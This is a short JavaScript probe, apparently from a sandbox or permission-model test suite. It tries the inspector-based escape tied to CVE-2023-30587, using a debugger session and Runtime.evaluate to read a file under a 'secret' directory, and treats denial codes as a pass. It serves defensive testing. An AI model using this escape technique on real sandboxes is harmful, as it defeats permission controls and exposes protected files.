// Route: Opens a port for a debugger, and evaluates as one within the process, with functions that only debuggers have.
// Known from: CVE-2023-30587 (Node permission model, the inspector)
// Refused: EACCES, EPERM, ENOSYS, ERR_INSPECTOR_NOT_AVAILABLE, absent, nothing
// Twin: computes
// Unconfined: works
import inspector from 'node:inspector';
import { settled } from './attempt.mjs';

export const attempt = async ({ base }) => {
  try {
    inspector.open(0, '127.0.0.1');
    if (inspector.url() !== undefined) return void inspector.close();
  } catch {}
  const session = new inspector.Session();
  session.connect();
  const expression = `process.getBuiltinModule('node:fs').readFileSync(${JSON.stringify(`${base}/secret/file`)})`;
  await settled((done) =>
    session.post('Runtime.evaluate', { expression, includeCommandLineAPI: true }, (error, answer) =>
      done(error ?? (answer.exceptionDetails && Object.assign(new Error('Thrown'), { code: 'EACCES' }))),
    ),
  );
};
export const twin = () => (Math.sqrt(4) === 2 ? 'ok' : 'none');
